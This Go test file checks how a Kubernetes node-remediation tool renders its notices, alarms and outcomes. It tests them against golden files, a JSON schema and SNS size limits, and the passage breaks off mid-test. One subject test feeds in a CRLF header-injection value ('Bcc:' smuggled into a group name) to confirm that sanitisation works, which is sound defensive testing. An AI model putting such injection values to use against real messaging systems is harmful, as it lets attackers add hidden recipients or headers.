package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"rollcall/shared/ledger"
	"rollcall/shared/plan"
	"rollcall/shared/policy"
	"rollcall/shared/remediate"
	"rollcall/shared/roll"
	"rollcall/tests/harness/expect"
	"rollcall/tests/harness/golden"
	"rollcall/tests/harness/must"
	"rollcall/tests/harness/noticetest"
	"rollcall/tests/harness/plantest"
)

// said is a notice and the mode in which it is sent.
type said struct {
	notice plan.Notice
	mode   policy.Mode
}

func noticeOf(mode policy.Mode, entries ...plan.Entry) said {
	f := entries[0].Finding
	return said{plan.Notice{Key: ledger.NoticeKey{Group: f.Group, Kind: f.Kind}, Entries: entries, Nodes: 48, Ready: 41, News: []plan.News{plan.NewsOpened}, Incident: ledger.Incident{ID: incident, First: now, Sent: 1, Total: len(entries)}}, mode}
}

// sent returns the message of the notice.
func (s said) sent(t *testing.T) Message {
	t.Helper()
	m, err := here.Notice(cluster, s.notice, s.mode, now)
	must.Succeed(t, err)
	return m
}

// documentOf returns the JSON form of a notice.
func documentOf(t *testing.T, m Message) (d NoticeDocument) {
	t.Helper()
	must.Succeed(t, json.Unmarshal(m.JSON, &d))
	return d
}

// here is a deployment.
var here = From{Stack: "rollcall"}

const incident = "5d1c7f9e3b2a4680"

// because returns the notice with the cause.
func (s said) because(cause string) said {
	s.notice.Key.Cause = cause
	return s
}

// leftBehind returns the notice for a cluster that does not exist in EKS any more.
func (s said) leftBehind() said {
	s.notice.Nodes, s.notice.Ready, s.notice.Gone = 0, 0, true
	return s
}

// ready returns the notice for a cluster of n nodes, all Ready.
func (s said) ready(n int) said {
	s.notice.Nodes, s.notice.Ready = n, n
	return s
}

// later returns the notice as the third of its incident.
func (s said) later(cause string, total int, news ...plan.News) said {
	s.notice.Key.Cause, s.notice.News = cause, news
	s.notice.Incident = ledger.Incident{ID: incident, First: now.Add(-40 * time.Minute), Sent: 3, Total: total}
	return s
}

func terminateAt(after time.Duration) plan.Step {
	return plan.Step{Do: policy.DoTerminate, At: now.Add(after)}
}

func entry(f roll.Finding, change func(*plan.Entry)) plan.Entry {
	e := plan.Entry{Finding: f, New: true}
	change(&e)
	return e
}

// notices returns realistic notices, by the name of their golden files.
func notices() map[string]said {
	ordered := func(act plan.Action) func(*plan.Entry) {
		return func(e *plan.Entry) {
			o := order(e.Finding)
			o.Action = act
			if e.Order = &o; act == plan.DeleteNodeClaim {
				o.Claim = "default-x7k2p"
			}
			e.Step = terminateAt(0)
		}
	}
	heldFor := func(reason plan.Reason, detail string) func(*plan.Entry) {
		return func(e *plan.Entry) {
			h := held(e.Finding, reason, detail)
			e.Held = &h
		}
	}
	coming := func(do policy.Do, after time.Duration) func(*plan.Entry) {
		return func(e *plan.Entry) { e.Step = plan.Step{Do: do, At: now.Add(after)} }
	}
	share := heldFor(plan.UnhealthyShare, "11 of 48 nodes of cluster shop-production are past their tolerance, more than the 10 that limits.unhealthy (20%) allows: the fault is probably not in the instances")
	old := func(e *plan.Entry) { e.New = false }
	nothing := func(*plan.Entry) {}
	because := func(e *plan.Entry) {
		heldFor(plan.SharedCause, "2 instances have the cause NodeRoleNotMapped in common (role/"+nodeRole+"): a replacement would have it too")(e)
		e.Causes, e.Evidence, e.Launched = []roll.Cause{driftOf("7"), unmapped()}, evidenceLink, e.Finding.Since
		e.Finding.Group, e.Finding.Owner = "nodepool/batch", roll.OwnerKarpenter // evidence of its instances is stored early
	}
	karpenters := func(long time.Duration) roll.Finding {
		f := missing(8, long)
		f.Group, f.Owner = "nodepool/default", roll.OwnerKarpenter
		return f
	}
	left := func(do policy.Do) func(*plan.Entry) {
		return func(e *plan.Entry) {
			e.Left, e.Until = "Karpenter terminates instances that do not register within 15 min", e.Finding.Since.Add(20*time.Minute)
			e.Step = plan.Step{Do: do, At: e.Finding.Due}
		}
	}
	silentlyTerminated := func(e *plan.Entry) {
		ordered(plan.Terminate)(e)
		e.Order.Why += "; no cordon and no drain: its kubelet is silent, so its pods would not stop"
	}
	gone := orphaned(1)
	gone.Summary = "instance " + string(gone.Instance) + ", launched at 2026-03-01 10:00:00Z, has no owner any more: its EKS cluster does not exist"
	stays := conflict(1)
	return map[string]said{
		"warned":            noticeOf(policy.Remediate, entry(missing(1, 6*time.Minute), coming(policy.DoTerminate, 9*time.Minute))),
		"overdue":           noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), coming(policy.DoTerminate, 9*time.Minute))),
		"overdue-not-ready": noticeOf(policy.Notify, entry(notReady(3), nothing)),
		"ordered":           noticeOf(policy.Remediate, entry(silent(1, 41*time.Minute), old), entry(silent(2, 45*time.Minute), silentlyTerminated)),
		"held": noticeOf(policy.Remediate,
			entry(silent(1, 41*time.Minute), share), entry(silent(2, 42*time.Minute), share), entry(silent(3, 50*time.Minute), old)),
		"asked":     noticeOf(policy.Remediate, entry(silent(1, 41*time.Minute), asking("0123456789abcdef"))),
		"asked-two": noticeOf(policy.Remediate, entry(silent(1, 41*time.Minute), asking("0123456789abcdef")), entry(silent(2, 42*time.Minute), asking("fedcba9876543210"))),
		"asked-soon": noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), func(e *plan.Entry) {
			e.Step = plan.Step{Do: policy.DoTerminate, At: now.Add(9 * time.Minute), Approve: policy.Approve{Rung: 1, For: 2 * time.Hour}}
		})),
		"not-approved": noticeOf(policy.Remediate, entry(silent(1, 3*time.Hour), heldFor(plan.ApprovalMissing, "nobody approved terminate by 2026-03-02 11:50:00Z, which a notice asked for at 2026-03-02 09:50:00Z"))),
		"held-mode":    noticeOf(policy.Notify, entry(silent(1, 41*time.Minute), heldFor(plan.ModeNotify, "mode is notify: only the mode prevents it"))),
		"hold-tag": noticeOf(policy.Remediate, entry(silent(1, 49*time.Hour), func(e *plan.Entry) {
			heldFor(plan.InstanceHeld, string(e.Finding.Instance)+" carries rollcall:hold=2026-03-05; it keeps costing until the tag is removed")(e)
			e.Hold = "2026-03-05"
		})),

		// Left to Karpenter.
		"warned-karpenter": noticeOf(policy.Remediate, entry(karpenters(6*time.Minute), left(policy.DoTerminate))),
		"warned-karpenter-cause": noticeOf(policy.Remediate, entry(karpenters(6*time.Minute), func(e *plan.Entry) {
			left(policy.DoNotify)(e)
			e.Causes = []roll.Cause{unmapped()}
		})).because("NodeRoleNotMapped"),
		"warned-karpenter-notify": noticeOf(policy.Notify, entry(karpenters(6*time.Minute), left(policy.DoNotify))),
		"held-karpenter":          noticeOf(policy.Remediate, entry(karpenters(17*time.Minute), heldFor(plan.OwnerWillAct, "Karpenter terminates instances that do not register within 15 min; Rollcall acts after 2026-03-02 12:03:00Z if it has not"))),
		"ordered-nodeclaim":       noticeOf(policy.Remediate, entry(karpenters(17*time.Minute), ordered(plan.DeleteNodeClaim))),

		"caused": noticeOf(policy.Remediate,
			entry(missing(1, 16*time.Minute), func(e *plan.Entry) {
				heldFor(plan.SharedCause, "2 instances have the cause NodeRoleNotMapped in common (role/"+nodeRole+"): a replacement would have it too")(e)
				e.Causes = []roll.Cause{unmapped(), driftOf("7")}
			}),
			entry(missing(2, 17*time.Minute), func(e *plan.Entry) {
				e.Causes = []roll.Cause{unmapped()}
			}),
			entry(missing(3, 18*time.Minute), func(e *plan.Entry) { e.Causes = []roll.Cause{driftOf("7")} })).because("NodeRoleNotMapped"),

		// Every kind.
		"uninitialized":       noticeOf(policy.Remediate, entry(uninitialized(1), ordered(plan.Cordon)), entry(uninitialized(2), coming(policy.DoCordon, time.Minute))),
		"not-ready-drain":     noticeOf(policy.Remediate, entry(notReady(1), ordered(plan.Drain))),
		"not-ready-next":      noticeOf(policy.Remediate, entry(notReady(1), coming(policy.DoDrain, time.Minute))),
		"drain-unfinished":    noticeOf(policy.Remediate, entry(notReady(1), heldFor(plan.DrainUnfinished, "unfinished: node "+nodeName(1)+" was not empty 10 min after its drain began: 1 pod not to be evicted (shop/cart-0: its PodDisruptionBudget allows no eviction now); it needs a person: have these pods go, or set drain.force to afterBudgetTimeout; the drain is tried again at 2026-03-02 13:10:00Z"))),
		"unknown-reboot":      noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), ordered(plan.Reboot))),
		"unknown-reboot-next": noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), coming(policy.DoReboot, 4*time.Minute))),
		"stuck":               noticeOf(policy.Remediate, entry(silent(1, time.Hour), heldFor(plan.ActionStuck, "terminate was carried out at 2026-03-02 11:44:00Z and shows no effect after 16m0s"))),
		"condition-failed":    noticeOf(policy.Remediate, entry(conditionFailed(1), nothing), entry(conditionFailed(2), nothing)),
		"impaired":            noticeOf(policy.Remediate, entry(impaired(1), heldFor(plan.OwnerWillAct, "nodegroup/web-blue replaces instances whose status checks fail"))),
		"flapping":            noticeOf(policy.Remediate, entry(flapping(1), nothing)),
		"ghost":               noticeOf(policy.Remediate, entry(ghost(1), ordered(plan.DeleteNode)), entry(ghost(2), coming(policy.DoDeleteNode, time.Minute))),
		"orphaned":            noticeOf(policy.Remediate, entry(orphaned(1), coming(policy.DoTerminate, 40*time.Minute))),
		"orphaned-gone":       noticeOf(policy.Remediate, entry(gone, heldFor(plan.ClusterNotActive, "EKS has no cluster shop-production in this account and region"))).leftBehind(),
		"conflict":            noticeOf(policy.Remediate, entry(stays, heldFor(plan.Conflicting, stays.Summary+": one of the two is wrong, so nothing is done"))),

		// Later in an incident.
		"escalated":       noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), coming(policy.DoTerminate, 9*time.Minute))).later("", 1, plan.NewsEscalated),
		"grown":           noticeOf(policy.Remediate, entry(missing(1, 16*time.Minute), because), entry(missing(2, 17*time.Minute), because)).later("NodeRoleNotMapped", 9, plan.NewsHeld, plan.NewsGrown).ready(48),
		"cause-found":     noticeOf(policy.Remediate, entry(missing(1, 16*time.Minute), because)).later("NodeRoleNotMapped", 1, plan.NewsCause),
		"cause-unread":    noticeOf(policy.Remediate, entry(missing(1, 16*time.Minute), ordered(plan.Terminate))).later("NodeRoleNotMapped", 1, plan.NewsOrdered),
		"cause-ruled-out": noticeOf(policy.Remediate, entry(missing(1, 16*time.Minute), nothing)).later("", 1, plan.NewsCause),

		"resolved-spot": over("nodepool/default", roll.NotReady, 10*time.Minute, plan.EndedGone, plan.EndedGone, plan.EndedGone).spot(),
		"left":          noticeOf(policy.Notify, entry(outlived("volume"), nothing), entry(outlived("eni"), nothing)),

		"resolved":       over("nodegroup/web-blue", roll.Unknown, 10*time.Minute, plan.EndedRecovered, plan.EndedByAct, plan.EndedGone, plan.EndedRecovered),
		"resolved-rest":  over("asg/web-workers-20260114", roll.Unknown, 10*time.Minute, plan.EndedAside, plan.EndedStopped, plan.EndedChanged, plan.EndedIgnored),
		"resolved-ghost": over("asg/web-workers-20260114", roll.Ghost, 12*time.Minute, plan.EndedByAct),
	}
}

// over returns the notice that the findings of len(how) instances have ended.
func over(g roll.Group, k roll.Kind, ago time.Duration, how ...plan.How) said {
	n := plan.Notice{Key: ledger.NoticeKey{Group: g, Kind: k}, Over: true, OverSince: now.Add(-ago), Incident: ledger.Incident{ID: incident, First: now.Add(-3 * time.Hour), Sent: 4, Total: 2 * len(how)}}
	for i, h := range how {
		e := plan.Ended{Instance: instanceID(i + 1), How: h}
		if i == 0 && h == plan.EndedRecovered {
			e.After = plan.Reboot
		}
		n.Ended = append(n.Ended, e)
	}
	return said{n, policy.Remediate}
}

// spot returns the notice with ends that EC2 announced, or caused without announcement.
func (s said) spot() said {
	all := s.notice.Ended
	all[0].Spot, all[0].SpotAt = roll.SpotInterruption, now.Add(-25*time.Minute)
	all[1].Spot, all[1].SpotAt = roll.SpotRebalance, now.Add(-40*time.Minute)
	all[2].Spot = roll.SpotInterruption
	return s
}

// alarms returns alarms about a cluster as a whole, by the name of their golden files.
func alarms() map[string]plan.Alarm {
	return map[string]plan.Alarm{
		"unreachable":         {Reason: plan.ClusterUnreachable, Since: now.Add(-16 * time.Minute), Incident: ledger.Incident{ID: incident, First: now, Sent: 1}, Detail: "the Kubernetes API of shop-production did not answer within 10s (dial tcp 10.0.3.17:443: i/o timeout): is the function in a subnet from which its endpoint can be reached?"},
		"not-active":          {Reason: plan.ClusterNotActive, Since: now.Add(-3*time.Hour - 5*time.Minute), Detail: "cluster shop-production is UPDATING, not ACTIVE: nothing is concluded about its nodes"},
		"incomplete":          {Reason: plan.SnapshotIncomplete, Since: now.Add(-15 * time.Minute), Detail: "ec2:DescribeInstances was denied to arn:aws:sts::111122223333:assumed-role/rollcall-inspect/rollcall: allow ec2:DescribeInstances for that role"},
		"resolved":            {Reason: plan.ClusterUnreachable, Since: now.Add(-90 * time.Minute), Over: true, Incident: ledger.Incident{ID: incident, First: now.Add(-75 * time.Minute), Sent: 2}, Detail: "the cluster can be judged again; it could not be judged from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
		"resolved-gone":       {Reason: plan.ClusterUnreachable, Since: now.Add(-90 * time.Minute), Over: true, Gone: true, Incident: ledger.Incident{ID: incident, First: now.Add(-75 * time.Minute), Sent: 2}, Detail: "EKS does not know the cluster any more; it could not be judged from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
		"resolved-incomplete": {Reason: plan.SnapshotIncomplete, Since: now.Add(-90 * time.Minute), Over: true, Detail: "the cluster can be judged again; it could not be judged from 2026-03-02 10:30:00Z to 2026-03-02 11:58:00Z or later"},
	}
}

// outcomes returns the possible outcomes of an order, by the name of their golden files.
func outcomes() map[string]remediate.Outcome {
	f := silent(1, 45*time.Minute)
	nobody := missing(2, 20*time.Minute)
	nobody.Owner, nobody.Group = roll.OwnerNone, roll.GroupNone
	act := func(f roll.Finding, a plan.Action, r remediate.Result, reason plan.Reason, detail string) remediate.Outcome {
		o := order(f)
		if o.Action = a; a == plan.DeleteNodeClaim {
			o.Claim = "default-x7k2p"
		}
		return remediate.Outcome{Order: o, Result: r, Reason: reason, Detail: detail, News: true}
	}
	karpenters := missing(8, 17*time.Minute)
	karpenters.Group, karpenters.Owner = "nodepool/default", roll.OwnerKarpenter
	denied := func(what string) string {
		return "the Kubernetes API of shop-production does not let arn:aws:sts::111122223333:assumed-role/rollcall-remediate/rollcall " + what + " nodes (403 Forbidden): apply infra/rbac.yaml"
	}
	acted := act(f, plan.Terminate, remediate.Acted, "", "terminated "+string(f.Instance))
	caused, approved := acted, acted
	caused.Cause, caused.Evidence, caused.Order.Incident = "KernelPanic", evidenceLink, incident
	approved.Order.Approved = &ledger.Approval{By: "arn:aws:iam::111122223333:user/oncall", How: ledger.WayCommand, At: now.Add(-time.Minute)}
	return map[string]remediate.Outcome{
		"acted-caused":      caused,
		"acted-approved":    approved,
		"acted":             acted,
		"acted-nobody":      act(nobody, plan.Terminate, remediate.Acted, "", "terminated "+string(nobody.Instance)),
		"acted-orphan":      act(orphaned(3), plan.Terminate, remediate.Acted, "", "terminated "+string(instanceID(3))),
		"refused":           act(f, plan.Terminate, remediate.Refused, plan.VerdictChanged, "node "+f.Node+" of "+string(f.Instance)+" is registered and Ready now"),
		"failed":            act(f, plan.Terminate, remediate.Failed, "", "ec2:TerminateInstances was refused: the instance has termination protection (disableApiTermination)"),
		"unclear":           act(f, plan.Terminate, remediate.Unclear, "", "ec2:TerminateInstances got no answer in time; a later check will see from the instance whether it took effect; until then it is not repeated"),
		"rebooted":          act(f, plan.Reboot, remediate.Acted, "", "rebooted "+string(f.Instance)),
		"reboot-unclear":    act(f, plan.Reboot, remediate.Unclear, "", "ec2:RebootInstances got no answer in time; a later check will see from the instance whether it took effect; until then it is not repeated"),
		"cordon-failed":     act(notReady(3), plan.Cordon, remediate.Failed, "", denied("patch")),
		"drain-refused":     act(notReady(3), plan.Drain, remediate.Refused, plan.VerdictChanged, "node "+nodeName(3)+" of "+string(instanceID(3))+" is registered and Ready now"),
		"drain-unfinished":  act(notReady(3), plan.Drain, remediate.Failed, plan.DrainUnfinished, "unfinished: node "+nodeName(3)+" was not empty 10 min after its drain began: 1 pod not to be evicted (shop/cart-0: its PodDisruptionBudget allows no eviction now)"),
		"uncordon-failed":   act(notReady(3), plan.Uncordon, remediate.Failed, "", denied("patch")),
		"node-deleted":      act(ghost(3), plan.DeleteNode, remediate.Acted, "", "deleted node "+nodeName(3)),
		"node-failed":       act(ghost(3), plan.DeleteNode, remediate.Failed, "", denied("delete")),
		"nodeclaim-deleted": act(karpenters, plan.DeleteNodeClaim, remediate.Acted, "", "deleted NodeClaim default-x7k2p"),
		"nodeclaim-refused": act(karpenters, plan.DeleteNodeClaim, remediate.Refused, plan.VerdictChanged, "NodeClaim default-x7k2p no longer has "+string(karpenters.Instance)+""),
	}
}

// asking is an entry whose reboot and termination a notice asks to approve.
func asking(order string) func(*plan.Entry) {
	return func(e *plan.Entry) {
		f := e.Finding
		q := &ledger.ApprovalRequest{Order: order, Instance: f.Instance, Node: f.Node, Group: f.Group, Kind: f.Kind, Acts: []string{"reboot", "terminate"}, At: now, Until: now.Add(2 * time.Hour)}
		e.New, e.Held = true, &plan.Held{
			Instance: f.Instance, Node: f.Node, Group: f.Group, Kind: f.Kind, Action: plan.Reboot, Question: q,
			Refusal: plan.Refusal{Reason: plan.ApprovalPending, Until: q.Until, Detail: "reboot needs a person's approval until 2026-03-02 13:50:00Z, 2h after the notice that asks for it"},
		}
	}
}

// messages renders all notices, alarms and outcomes.
func messages(t *testing.T) map[string]Message {
	t.Helper()
	out := map[string]Message{}
	keep := func(name string, m Message, err error) {
		must.That(t, err == nil, "%s: %v", name, err)
		out[name] = m
	}
	for name, s := range notices() {
		out["notice-"+name] = s.sent(t)
	}
	for name, o := range outcomes() {
		m, err := here.Outcome(cluster, o, now)
		keep("outcome-"+name, m, err)
	}
	for name, a := range alarms() {
		m, err := here.ClusterNotice(cluster, a, policy.Remediate, now)
		keep("cluster-"+name, m, err)
	}
	return out
}

func TestNoticesAndOutcomes(t *testing.T) {
	for name, m := range messages(t) {
		t.Run(name, func(t *testing.T) { golden.File(t, "testdata/"+name+".golden", posted(t, m)) })
	}
}

// The samples in the documentation match what is published.
func TestTheSamplesAreNotices(t *testing.T) {
	m := messages(t)["notice-grown"]
	for name, want := range map[string]string{"notice.json": indented(t, m.JSON), "chat.json": indented(t, m.Chat), "notice.txt": "Subject: " + m.Subject + "\n\n" + m.Text} {
		golden.File(t, filepath.Join("..", "..", "events", "notices", name), want)
	}
}

func noticeSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	data := must.Read(t, filepath.Join("..", "..", "events", "notice.schema.json"))
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	must.Succeed(t, err)
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	must.Succeed(t, c.AddResource("notice.schema.json", doc))
	s, err := c.Compile("notice.schema.json")
	must.Succeed(t, err)
	return s
}

func validate(t *testing.T, s *jsonschema.Schema, data []byte) error {
	t.Helper()
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	must.Succeed(t, err)
	return s.Validate(v)
}

func TestEveryMessageHasThePublishedForm(t *testing.T) {
	s := noticeSchema(t)
	all := messages(t)
	all["a thousand"] = aThousand(t, "2026-03-05")
	for name, m := range all {
		err := validate(t, s, m.JSON)
		expect.That(t, err == nil, "%s: %v", name, err)
	}
}

func TestThePublishedFormRefusesWhatItDoesNotName(t *testing.T) {
	s := noticeSchema(t)
	good := messages(t)["notice-ordered"].JSON
	for name, spoil := range map[string]func(map[string]any){
		"an unknown field":                func(d map[string]any) { d["extra"] = 1 },
		"an unknown field of an instance": func(d map[string]any) { instance(d)["extra"] = 1 },
		"an unknown field of a next step": func(d map[string]any) { instance(d)["next"].(map[string]any)["extra"] = 1 },
		"an unknown action":               func(d map[string]any) { d["action"] = "exploded" },
		"an unknown kind":                 func(d map[string]any) { d["kind"] = "Bored" },
		"an unknown reason":               func(d map[string]any) { instance(d)["held"] = "JustBecause" },
		"the end of what is not over":     func(d map[string]any) { d["until"] = d["at"] },
		"a cluster's reason":              func(d map[string]any) { d["reason"] = "ClusterUnreachable" },
		"a cluster with instances":        func(d map[string]any) { d["kind"], d["group"] = "Cluster", "cluster" },
		"a cluster's group alone":         func(d map[string]any) { d["group"] = "cluster" },
		"an end that is not one":          func(d map[string]any) { d["action"] = "resolved" },
		"an unknown stage":                func(d map[string]any) { instance(d)["stage"] = "watching" },
		"a missing field":                 func(d map[string]any) { delete(d, "severity") },
		"no instances":                    func(d map[string]any) { d["instances"] = []any{} },
		"a time that is none":             func(d map[string]any) { d["at"] = "yesterday" },
		"a time that is not UTC":          func(d map[string]any) { d["at"] = "2026-03-02T12:00:00+01:00" },
		"another version":                 func(d map[string]any) { d["version"] = 2 },
	} {
		var d map[string]any
		must.Succeed(t, json.Unmarshal(good, &d))
		spoil(d)
		data, err := json.Marshal(d)
		must.Succeed(t, err)
		expect.That(t, validate(t, s, data) != nil, "%s is accepted", name)
	}
	expect.Succeed(t, validate(t, s, good))
	all := messages(t)
	for name, needs := range map[string][]string{"notice-resolved": {"until", "ended", "group"}, "cluster-unreachable": {"reason", "detail", "since"}, "cluster-resolved": {"until", "since"}} {
		for _, field := range needs {
			var d map[string]any
			must.Succeed(t, json.Unmarshal(all[name].JSON, &d))
			delete(d, field)
			data, err := json.Marshal(d)
			must.Succeed(t, err)
			expect.That(t, validate(t, s, data) != nil, "%s without %s is accepted", name, field)
		}
	}
}

func instance(d map[string]any) map[string]any {
	return d["instances"].([]any)[0].(map[string]any)
}

// Every kind, stage, owner and verb of the vocabulary must be in the schema. Otherwise
// listeners that validate refuse the first notice that uses it.
func TestThePublishedFormKnowsTheVocabulary(t *testing.T) {
	s := noticeSchema(t)
	for _, kind := range roll.Kinds() {
		for _, owner := range roll.Owners() {
			for _, stage := range []roll.Stage{roll.Warned, roll.Overdue} {
				for _, do := range []policy.Do{policy.DoWarn, policy.DoTag, policy.DoNotify, policy.DoCordon, policy.DoDrain, policy.DoReboot, policy.DoTerminate, policy.DoDeleteNode} {
					f := silent(1, time.Hour)
					f.Kind, f.Owner, f.Stage = kind, owner, stage
					m := noticeOf(policy.Notify, plan.Entry{Finding: f, Step: plan.Step{Do: do, At: now}}).sent(t)
					err := validate(t, s, m.JSON)
					must.That(t, err == nil, "%s %s %s %s: %v", kind, owner, stage, do, err)
				}
			}
		}
	}
}

// The values of package plan are in the schema too, and every act has its words.
func TestThePublishedFormKnowsEveryActAndReason(t *testing.T) {
	s := noticeSchema(t)
	ways := []remediate.Outcome{{Result: remediate.Acted}, {Result: remediate.Failed}, {Result: remediate.Unclear}, {Result: remediate.Failed, Reason: plan.DrainUnfinished}}
	for _, r := range plantest.Constants(t, "Reason") {
		ways = append(ways, remediate.Outcome{Result: remediate.Refused, Reason: plan.Reason(r)})
	}
	for _, a := range plantest.Constants(t, "Action") {
		act := plan.Action(a)
		w, ok := acts[act]
		expect.That(t, ok && w.noun != "" && w.doing != "" && w.done != "" && w.pastTense != "" && w.weight != 0, "%s has no words: %+v", act, w)
		for _, o := range ways {
			o.Order = order(notReady(1))
			o.Order.Action, o.Order.Claim = act, "default-x7k2p"
			m, err := here.Outcome(cluster, o, now)
			must.Succeed(t, err)
			err = validate(t, s, m.JSON)
			expect.That(t, err == nil, "%s %s %s: %v", act, o.Result, o.Reason, err)
		}
		f := notReady(1)
		n := noticeOf(policy.Remediate, entry(f, func(e *plan.Entry) { o := order(f); o.Action, e.Order = act, &o }))
		if act == plan.Uncordon {
			continue // is never ordered for a finding
		}
		m := n.sent(t)
		err := validate(t, s, m.JSON)
		expect.That(t, err == nil && m.Attributes.Action == a, "%s ordered: %v, action %s", act, err, m.Attributes.Action)
	}
	for _, do := range []policy.Do{policy.DoCordon, policy.DoDrain, policy.DoReboot, policy.DoTerminate, policy.DoDeleteNode} {
		expect.That(t, coming[do] != "", "nobody can say that %s is coming", do)
	}
}

// The schema has the reasons and ends of package plan, and no others.
func TestThePublishedFormNamesThePlansReasonsAndHows(t *testing.T) {
	data := must.Read(t, filepath.Join("..", "..", "events", "notice.schema.json"))
	var d struct {
		Properties struct {
			Ordered struct{ Enum []string }
			Ended   struct {
				Items struct {
					Properties struct{ How struct{ Enum []string } }
				}
			}
		}
		Defs map[string]struct{ Enum []string } `json:"$defs"`
	}
	must.Succeed(t, json.Unmarshal(data, &d))
	kinds := []string{kindCluster}
	for _, k := range roll.Kinds() {
		kinds = append(kinds, string(k))
	}
	for name, c := range map[string]struct{ got, want []string }{
		"reason":  {d.Defs["reason"].Enum, plantest.Constants(t, "Reason")},
		"kind":    {d.Defs["kind"].Enum, kinds},
		"ordered": {d.Properties.Ordered.Enum, plantest.Constants(t, "Action")},
		"how":     {d.Properties.Ended.Items.Properties.How.Enum, plantest.Constants(t, "How")},
	} {
		slices.Sort(c.got)
		slices.Sort(c.want)
		expect.Same(t, c.got, c.want, "%s", name)
	}
}

// aThousand returns a notice of a thousand instances with long texts, each with the value
// hold of the tag rollcall:hold.
func aThousand(t *testing.T, hold string) Message {
	t.Helper()
	var entries []plan.Entry
	for n := 1; n <= 1000; n++ {
		f := silent(n, time.Duration(n)*time.Minute+time.Hour)
		h := held(f, plan.ActionFailed, fmt.Sprintf("terminate of %s failed at 2026-03-02 11:50:00Z (ec2:TerminateInstances was denied to arn:aws:sts::111122223333:assumed-role/%s/rollcall with an explicit deny in a service control policy: an allow does not override that, so change the deny to let that role do ec2:TerminateInstances on arn:aws:ec2:eu-west-1:111122223333:instance/%s); it is tried again 15m0s later", f.Instance, strings.Repeat("r", 64), f.Instance))
		entries = append(entries, plan.Entry{Finding: f, Held: &h, Hold: hold, New: n%2 == 0, Step: terminateAt(0)})
	}
	o := order(entries[999].Finding)
	entries[999].Held, entries[999].Order = nil, &o
	entries[999].New = false
	return noticeOf(policy.Remediate, entries...).sent(t)
}

// A reader on a phone at night must see at once what is wrong and what to do.
func TestANoticeIsShort(t *testing.T) {
	all := messages(t)
	for name, m := range all {
		for _, fault := range noticetest.Faults(noticetest.Notice{Subject: m.Subject, Text: m.Text, JSON: m.JSON, Chat: m.Chat}) {
			t.Errorf("%s: %s\n%s", name, fault, m.Text)
		}
	}
	expect.That(t, len(all) >= 40, "only %d notices", len(all))
}

func TestANoticeOfAThousandInstancesFitsAndCounts(t *testing.T) {
	m := aThousand(t, "2026-03-05")
	expect.That(t, strings.Contains(m.Subject, "1000 nodes stopped reporting"), "subject %q", m.Subject)
	expect.That(t, len(m.Text) < 20_000, "the text has %d bytes", len(m.Text))
	expect.That(t, strings.HasPrefix(m.Text, "1000 nodes have ") && strings.Contains(m.Text, " and 995 more\n"), "the text does not count them all:\n%s", m.Text[:200])
	d := documentOf(t, m)
	expect.That(t, d.Count == 1000 && len(d.Instances)+d.Truncated == 1000 && d.Truncated != 0, "count %d, %d listed, %d left out", d.Count, len(d.Instances), d.Truncated)
	expect.That(t, d.Action == "terminate" && d.Instances[0].Order != "", "what is being acted on comes first: action %s, first %+v", d.Action, d.Instances[0])
	for i, e := range d.Instances[1:] {
		if !e.New {
			t.Errorf("instance %d is no news and stands before news", i+1)
			break
		}
	}
	n := published(t, m)
	expect.That(t, n < 256*1024, "the message has %d bytes, SNS takes 262144", n)
}

// published returns the size of a message as SNS counts it, in bytes.
func published(t *testing.T, m Message) int {
	t.Helper()
	fake := &topicFake{}
	must.Succeed(t, NewTopic(fake, topic, "", nobody).Publish(t.Context(), m))
	return fake.size()
}

// A tag's value has at most 256 characters, and JSON within JSON takes seven bytes for some
// of them.
func TestANoticeFitsWhateverPeopleWriteIntoTags(t *testing.T) {
	for _, c := range []string{"x", "ü", "\"", "<", "\\"} {
		m := aThousand(t, strings.Repeat(c, 256))
		n := published(t, m)
		expect.That(t, n < 256*1024, "with %q in rollcall:hold the message has %d bytes, SNS takes 262144", c, n)
		expect.That(t, len(m.Text) < 20_000, "with %q in rollcall:hold the text has %d bytes", c, len(m.Text))
	}
}

func TestANoticeDoesNotReorderWhatItIsGiven(t *testing.T) {
	n := noticeOf(policy.Notify, entry(silent(2, time.Hour), func(e *plan.Entry) { e.New = false }), entry(silent(1, 2*time.Hour), func(*plan.Entry) {}))
	n.sent(t)
	expect.That(t, n.notice.Entries[0].Finding.Instance == instanceID(2), "the caller's entries were reordered")
}

// SNS requires subjects of printable ASCII with fewer than 100 characters.
func TestSubjectsAreWhatSNSTakes(t *testing.T) {
	names := []string{"d", "shop-production", strings.Repeat("a", 100), strings.Repeat("日本", 25), "zwölf", "a\nb\tc\x00d\x7fe"}
	groups := []roll.Group{"none", "nodepool/default", roll.NodeGroupGroup(strings.Repeat("g", 63)), roll.AutoScalingGroup(strings.Repeat("workers ", 31)), roll.AutoScalingGroup(strings.Repeat("größe", 20)), "asg/a\r\nBcc: x\x7f"}
	for _, name := range names {
		for _, group := range groups {
			id := cluster
			id.Name = name
			f := silent(1, time.Hour)
			f.Group = group
			n := noticeOf(policy.Remediate, entry(f, func(e *plan.Entry) { o := order(f); e.Order = &o }))
			notice, err := here.Notice(id, n.notice, n.mode, now)
			must.Succeed(t, err)
			outcome, err := here.Outcome(id, remediate.Outcome{Order: order(f), Result: remediate.Acted}, now)
			must.Succeed(t, err)
			for _, s := range []string{notice.Subject, outcome.Subject} {
				expect.That(t, len(s) != 0 && len(s) < 100, "%q in %q: %d characters: %q", name, group, len(s), s)
				expect.That(t, !strings.ContainsFunc(s, func(r rune) bool { return r < ' ' || r > '~' }), "%q in %q: not printable ASCII: %q", name, group, s)
			}
		}
	}
}

func TestASubjectIsCutWhereItTellsLeast(t *testing.T) {
	long := roll.Group("nodegroup/web-workers-general-purpose-blue")
	whole, cut := strings.Repeat("c", 20), strings.Repeat("c", 60)
	for name, tt := range map[string]struct{ got, want string }{
